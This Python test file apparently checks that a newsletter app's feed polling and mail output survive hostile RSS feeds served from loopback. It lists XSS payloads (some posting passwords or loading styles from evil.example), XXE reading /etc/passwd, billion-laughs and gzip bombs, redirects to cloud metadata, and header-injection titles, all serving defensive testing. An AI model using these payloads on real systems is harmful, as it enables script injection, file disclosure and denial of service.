"""F-33, F-35 to F-38: what feeds send, on its whole way into mails and pages.

Each case goes from a server on loopback through poll, digest, gate and sender, with a good feed beside it that
must not notice. The table of addresses of F-38 stands in `tests/core/test_fetcher_addresses.py`.
"""

import gzip
import re
import socket
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack
from html import escape

import pytest
from flask.testing import FlaskClient
from selectolax.lexbor import LexborHTMLParser
from sqlalchemy import func, select

from newsletter.articles.feeds import poll_all
from newsletter.articles.models import Article, Source
from newsletter.articles.service import add_source
from newsletter.core.clock import now
from newsletter.core.db import db
from newsletter.core.fetcher import Fetcher
from newsletter.digests.policy import Selection
from newsletter.digests.service import Rule, add_digest, run
from newsletter.editions import service as editions
from newsletter.editions.models import EditionArticle
from newsletter.mail.house import House
from newsletter.mail.message import Envelope
from tests import make
from tests.articles.documents import item, rss
from tests.core.servers import Conversation, page, redirect, saying, serving
from tests.mail.test_injection import TITLES

pytestmark = [pytest.mark.faults, pytest.mark.loopback]

LONGEST = 40.0
"""Seconds in which one poll of a feed that means harm is over; a poll may take thirty."""

Feeds = Callable[..., list[Source]]
HEADERS = {"From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Content-Type"}
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='java&#10;script:alert(1)'>go</a>",
    "<a href=' javascript:alert(1)'>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>go</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'><link rel=stylesheet href=//evil.example>",
    "<object data=x></object><embed src=x><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p style='background:url(javascript:alert(1))' onclick=alert(1)>x</p>",
    "<template><script>alert(1)</script></template><textarea><img src=x onerror=alert(1)></textarea>",
    "]]><script>alert(1)</script>",
)


@pytest.fixture
def feeds(house: House) -> Iterator[Feeds]:
    """`feeds(conversation, …)`: a source for each, and one more that is good; all are polled once."""
    with ExitStack() as stack:

        def poll(*conversations: Conversation) -> list[Source]:
            places = [stack.enter_context(serving(each)) for each in (*conversations, saying(feed("Good news")))]
            sources = [add_source(f"http://{place}/feed") for place in places]
            began = time.monotonic()
            poll_all(Fetcher(allow=tuple(places)))
            assert time.monotonic() - began < LONGEST
            return [db.session.get_one(Source, each.id, populate_existing=True) for each in sources]

        yield poll


def feed(*titles: str, body: str = "<p>At the quay.</p>") -> bytes:
    items = (
        item(title=escape(title), guid=f"{number}", link=f"https://harbour.example/{number}")
        + f"<description>{escape(body)}</description>"
        for number, title in enumerate(titles)
    )
    return page(rss(*items).encode(), "Content-Type: application/rss+xml")


def sent(house: House, outbox: list[Envelope], sources: Sequence[Source], most: int = 100) -> Envelope:
    """The mail of a digest of all these, which goes to one reader."""
    of = make.newsletter()
    make.subscription(of, house, "ann@example.org")
    rule = Rule("30 6 * * *", selection=Selection(most=most, alike=0))
    morning = add_digest("morning", of.slug, rule, [each.id for each in sources])
    ran = run(morning.id, now(), house)
    assert ran.edition_id, ran.reason
    make.send_all(house)
    editions.follow_mailings()
    [mail] = [each for each in outbox if each.recipient == "ann@example.org"]
    return mail


def html_of(mail: Envelope) -> str:
    part = make.parsed(mail).get_body(("html",))
    assert part
    return str(part.get_content())


def assert_sound(mail: Envelope) -> None:
    """Lines as SMTP wants them, and each header once."""
    lines = mail.data.split(b"\r\n")
    assert max(map(len, lines)) <= 998
    assert not any(b"\r" in line or b"\n" in line for line in lines)
    names = [name.lower() for name in make.parsed(mail).keys()]  # noqa: SIM118 - the header names, repeated ones too.
    assert len(set(names)) == len(names)
    assert {name.lower() for name in HEADERS} <= set(names)
    assert "bcc" not in names


def assert_inert(html: str) -> None:
    parsed = LexborHTMLParser(html)
    for node in parsed.css("*"):
        assert node.tag not in {
            "script",
            "iframe",
            "object",
            "embed",
            "base",
            "svg",
            "math",
            "template",
            "noscript",
        }
        for name, value in node.attributes.items():
            assert not name.startswith("on"), html
            if name in {"href", "src", "action"}:
                assert re.match(r"https?://|mailto:|/|#|data:image/|cid:|$", value or ""), value


def trickle(line: socket.socket) -> None:
    line.sendall(b"HTTP/1.1 200 OK\r\n\r\n<rss>")
    while True:
        line.sendall(b" ")
        time.sleep(1)


def endless(line: socket.socket) -> None:
    line.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
    while True:
        line.sendall(b"10000\r\n" + b" " * 65536 + b"\r\n")


BILLION = b'<!DOCTYPE r [<!ENTITY a "ha">' + b"".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(12)
)
HOSTILE: dict[str, Conversation] = {
    "billion laughs": saying(page(BILLION + b"]><rss><channel><title>&m;</title></channel></rss>")),
    "a file of ours": saying(
        page(
            b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>'
        )
    ),
    "a gzip bomb": saying(page(gzip.compress(bytes(200_000_000), 9), "Content-Encoding: gzip")),
    "chunks without end": endless,
    "a byte a second": trickle,
    "a page": saying(page(b"<!doctype html><title>Welcome</title>")),
    "gone": saying(page(b"", status="410 Gone")),
    "nothing new, the first time": saying(page(b"", status="304 Not Modified")),
    "redirects for ever": saying(redirect("/feed")),
    "a redirect to the cloud": saying(redirect("http://169.254.169.254/latest/meta-data/")),
    "a redirect to a file": saying(redirect("file:///etc/passwd")),
    "no HTTP": saying(b"\x00\xff" * 5000),
}


def test_f35_feeds_that_mean_harm_are_marked_and_the_good_one_is_sent(
    house: House, outbox: list[Envelope], feeds: Feeds
) -> None:
    sources = feeds(*HOSTILE.values())

    assert [name for name, of in zip(HOSTILE, sources, strict=False) if not of.problem] == []
    assert sources[-1].problem == ""
    assert not any("root:" in each.title + each.problem for each in sources)
    assert "Good news" in make.text_of(sent(house, outbox, sources))


def test_f35_a_feed_of_a_hundred_thousand_entries_is_read_in_bounds(feeds: Feeds) -> None:
    entries = "".join(f"<item><title>{number}</title><guid>{number}</guid></item>" for number in range(100_000))
    many, good = feeds(saying(page(rss(entries).encode())))

    of = select(func.count()).select_from(Article)
    assert (db.session.scalar(of.where(Article.source_id == many.id)) or 0) <= 100_000
    assert db.session.scalar(of.where(Article.source_id == good.id)) == 1


@pytest.mark.parametrize("charset", ["utf-16", "utf-7", "latin-1"])
def test_f35_a_charset_that_is_wrong_or_odd_brings_nothing_active(
    house: House, outbox: list[Envelope], feeds: Feeds, charset: str
) -> None:
    document = rss(item(title="Fähre +ADw-script+AD4-alert(1)", guid="1", link="https://harbour.example/1"))
    sources = feeds(saying(page(document.encode(charset), "Content-Type: text/xml; charset=utf-8")))

    mail = sent(house, outbox, sources)
    assert_sound(mail)
    assert_inert(html_of(mail))


def test_f36_entries_of_all_kinds_go_once_and_make_a_sound_mail(
    house: House, outbox: list[Envelope], feeds: Feeds
) -> None:
    odd = (
        "<title>No id</title>",
        "<title>Same id</title><guid>same</guid><link>https://harbour.example/a</link>",
        "<title>Same id, another story</title><guid>same</guid><link>https://harbour.example/b</link>",
        "<title>Of 1970</title><guid>g1</guid><pubDate>Thu, 01 Jan 1970 00:00:00 GMT</pubDate>",
        "<title>Of 2999</title><guid>g2</guid><pubDate>Tue, 01 Jan 2999 00:00:00 GMT</pubDate>",
        "<title></title><guid>g3</guid><description>Without a title</description>",
        f"<title>{'x' * 2_000_000}</title><guid>g4</guid>",
        "<title>=?utf-8?q?=0ABcc:_x=40example.org?=</title><guid>g5</guid>",
        "<title>\u202eשלם 🦀</title><guid>g6</guid><link>../relative?a=1&amp;b=2</link>",
        "<title>&lt;b&gt;HTML&lt;/b&gt; in it</title><guid>g7</guid>",
    )
    places = saying(page(rss(*odd).encode(), "Content-Type: application/rss+xml"))
    with serving(places) as place:
        source = add_source(f"http://{place}/feed")
        for _ in range(3):
            poll_all(Fetcher(allow=(place,)))

    kept = db.session.scalar(select(func.count()).select_from(Article).where(Article.source_id == source.id))
    assert kept == len(odd)
    mail = sent(house, outbox, [source])
    assert_sound(mail)
    carried = db.session.scalars(select(EditionArticle.article_id)).all()
    assert len(set(carried)) == len(carried) == len(odd)


@pytest.mark.parametrize("start", range(0, len(TITLES), 40))
def test_f33_titles_bring_no_header(house: House, outbox: list[Envelope], feeds: Feeds, start: int) -> None:
    titles = [re.sub("[^\t\n\r\x20-\ud7ff\ue000-\ufffd]", "", each) for each in TITLES[start : start + 40]]
    mail = sent(house, outbox, feeds(saying(feed(*titles))))

    assert_sound(mail)
    assert "injected@example.com" not in str(make.parsed(mail)["To"])


def test_f37_nothing_active_reaches_mail_archive_or_article(
    house: House, outbox: list[Envelope], feeds: Feeds, client: FlaskClient
) -> None:
    hostile, _ = feeds(saying(feed(*SCRIPTS, body="".join(SCRIPTS))))
    mail = sent(house, outbox, [hostile])

    assert_sound(mail)
    assert_inert(html_of(mail))
    for path in ("/courier/archive", "/courier/archive/1", "/courier/archive?q=script", "/articles/1/x"):
        assert "alert(1)</script" not in client.get(path, follow_redirects=True).text
    assert db.session.scalar(select(func.count()).select_from(Article)) == len(SCRIPTS) + 1
